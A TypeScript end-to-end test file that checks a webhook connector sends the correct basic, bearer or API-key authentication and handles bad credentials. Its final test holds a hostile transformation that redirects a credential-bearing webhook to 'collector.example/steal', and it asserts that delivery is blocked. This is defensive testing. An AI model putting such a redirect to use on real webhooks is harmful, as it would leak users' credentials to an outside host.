import { expect, it } from 'vitest';
import { describeEndToEnd } from '../end-to-end-fixture.ts';
import { startCustomApiFake } from './index.ts';

const USERNAME = 'switchyard';
const PASSWORD = 'pw-7Hq2LmX9vR4t';
const TOKEN = 'tok_5Kd8Wn3Yp1Zs6Bf';
const HEADER_NAME = 'X-Api-Key';
const HEADER_VALUE = 'key_Jr4Vt9Qm2Xc7';
const HOSTS = {
  basic: 'basic.merchant.example',
  bearer: 'bearer.merchant.example',
  header: 'header.merchant.example',
} as const;
type Scheme = keyof typeof HOSTS;
const SCHEMES = Object.keys(HOSTS) as Scheme[];

const urlOf = (scheme: Scheme) => `https://${HOSTS[scheme]}/dodo/events?source=switchyard`;

/**
 * Every field of the card. The API currently requires every credential field of a manifest to be present, so
 * the card carries all of them; `scheme` decides which are sent.
 */
const credentialsFor = (scheme: Scheme, overrides: Record<string, string> = {}) => ({
  scheme,
  username: USERNAME,
  password: PASSWORD,
  token: TOKEN,
  headerName: HEADER_NAME,
  headerValue: HEADER_VALUE,
  ...overrides,
});

const expectedAuth: Record<Scheme, [string, string]> = {
  basic: ['authorization', `Basic ${Buffer.from(`${USERNAME}:${PASSWORD}`).toString('base64')}`],
  bearer: ['authorization', `Bearer ${TOKEN}`],
  header: ['x-api-key', HEADER_VALUE],
};

/** One API per scheme, each behind its own host. */
async function startApis() {
  const apis = {
    basic: await startCustomApiFake({ auth: { scheme: 'basic', username: USERNAME, password: PASSWORD } }),
    bearer: await startCustomApiFake({ auth: { scheme: 'bearer', token: TOKEN } }),
    header: await startCustomApiFake({
      auth: { scheme: 'header', headerName: HEADER_NAME, headerValue: HEADER_VALUE },
    }),
  };
  return {
    ...apis,
    async close() {
      for (const api of Object.values(apis)) await api.close();
    },
  };
}

describeEndToEnd(
  'Custom API end to end: card → API → delivery → your API (fake)',
  {
    connector: 'custom',
    start: startApis,
    hosts: (apis) => Object.fromEntries(SCHEMES.map((scheme) => [HOSTS[scheme], apis[scheme].url])),
  },
  (e2e) => {
    const createCardEndpoint = (scheme: Scheme, credentials = credentialsFor(scheme)) =>
      e2e.createCardEndpoint('pass-through', { url: urlOf(scheme), credentials });

    it.each(SCHEMES)(
      'scheme %s: your API receives exactly what the template builds, with that authentication only',
      async (scheme) => {
        const template = e2e.manifest.templates[0]!;
        const card = await createCardEndpoint(scheme);
        e2e.expectMadeFrom(card.endpoint, template, credentialsFor(scheme));
        const eventTypes = ['payment.succeeded', 'subscription.active', 'subscription.cancelled'];
        const api = e2e.fake[scheme];
        await e2e.expectDelivered(
          { ...card, template, url: urlOf(scheme), eventTypes },
          () => api.received,
          (call, expected, { message }) => {
            expect(call.method).toBe(expected.method);
            expect(call.path).toBe('/dodo/events?source=switchyard');
            expect(call.body).toEqual(expected.payload);
            const [name, value] = expectedAuth[scheme];
            expect(call.headers[name]).toBe(value);
            if (scheme === 'header') expect(call.headers.authorization).toBeUndefined();
            else expect(call.headers['x-api-key']).toBeUndefined();
            expect(call.headers['webhook-id']).toBe(message.id);
            expect(call.headers['webhook-signature']).toMatch(/^v1,/);
          },
        );
      },
    );

    it('a wrong password gets your API’s 401, recorded on the attempt and not retried', async () => {
      const { appId } = await createCardEndpoint(
        'basic',
        credentialsFor('basic', { password: 'not-the-password' }),
      );
      const before = e2e.fake.basic.received.length;
      const message = await e2e.send(appId);
      expect((await e2e.firstAttempt(appId, message.id, 401)).response).toContain('unauthorized');
      await e2e.expectFailedOnce(appId, message.id);
      expect(e2e.fake.basic.received.length).toBe(before);
    });

    it('unusable credentials for the scheme are a credentials failure, and nothing is sent', async () => {
      const { appId } = await createCardEndpoint('basic', credentialsFor('basic', { username: 'has:colon' }));
      const before = e2e.fake.basic.requests.length;
      const message = await e2e.send(appId);
      expect((await e2e.firstAttempt(appId, message.id)).response).toMatch(
        /credentials are incomplete: .*colon/,
      );
      expect(e2e.fake.basic.requests.length).toBe(before);
    });

    it('never sends the credentials to a host other than the endpoint’s', async () => {
      const { appId, endpoint } = await createCardEndpoint('bearer');
      const elsewhere = 'function handler(w) { w.url = "https://collector.example/steal"; return w; }';
      await e2e.svix.endpoint.transformation.patch(appId, endpoint.id, { code: elsewhere });
      const before = e2e.fake.bearer.requests.length;
      const message = await e2e.send(appId);
      expect((await e2e.firstAttempt(appId, message.id)).response).toMatch(
        /only sent to bearer\.merchant\.example.*not to collector\.example/,
      );
      expect(e2e.fake.bearer.requests.length).toBe(before);
    });
  },
);
